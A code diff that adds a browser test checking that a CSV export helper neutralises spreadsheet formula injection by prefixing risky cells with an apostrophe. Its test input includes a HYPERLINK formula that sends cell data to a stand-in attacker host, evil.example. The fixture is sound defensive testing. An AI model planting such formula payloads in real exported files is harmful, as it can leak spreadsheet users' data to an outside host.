@@ -114,6 +114,16 @@ class WorkbenchBrowserTests {
             assertThat(csv).contains("2,2,transfer,experian-marketing-services,Experian Marketing Services,labour-party,Labour Party,transfer-experian-to-labour",
                     "consent verdict", "the privacy policy contained no mention of selling data for political purposes");
 
+            // a cell a spreadsheet would run as a formula gets a leading ' (CSV injection); other values stay as they are
+            Object cells = ((JavascriptExecutor) browser).executeAsyncScript("""
+                    const done = arguments[arguments.length - 1];
+                    import('/workbench/export.js').then(m => done(['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+44 20 7946 0000',
+                      '-1+2', '@SUM(A1:A9)', '\\tTAB', '\\rCR', 'Emma\\'s Diary', '2017-05-05', 1000000, true, null].map(m.csvCell)),
+                      e => done(['failed: ' + e]));
+                    """);
+            assertThat(cells).isEqualTo(List.of("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"", "'+44 20 7946 0000",
+                    "'-1+2", "'@SUM(A1:A9)", "'\tTAB", "\"'\rCR\"", "Emma's Diary", "2017-05-05", "1000000", "true", ""));
+
             browser.findElement(By.id("export-json")).click();
             JsonNode json = JsonMapper.builder().build().readTree(downloaded("datatrail-lifecycle-marketing-chains.json"));
             assertThat(json.path("permalink").asString()).isEqualTo(permalink);
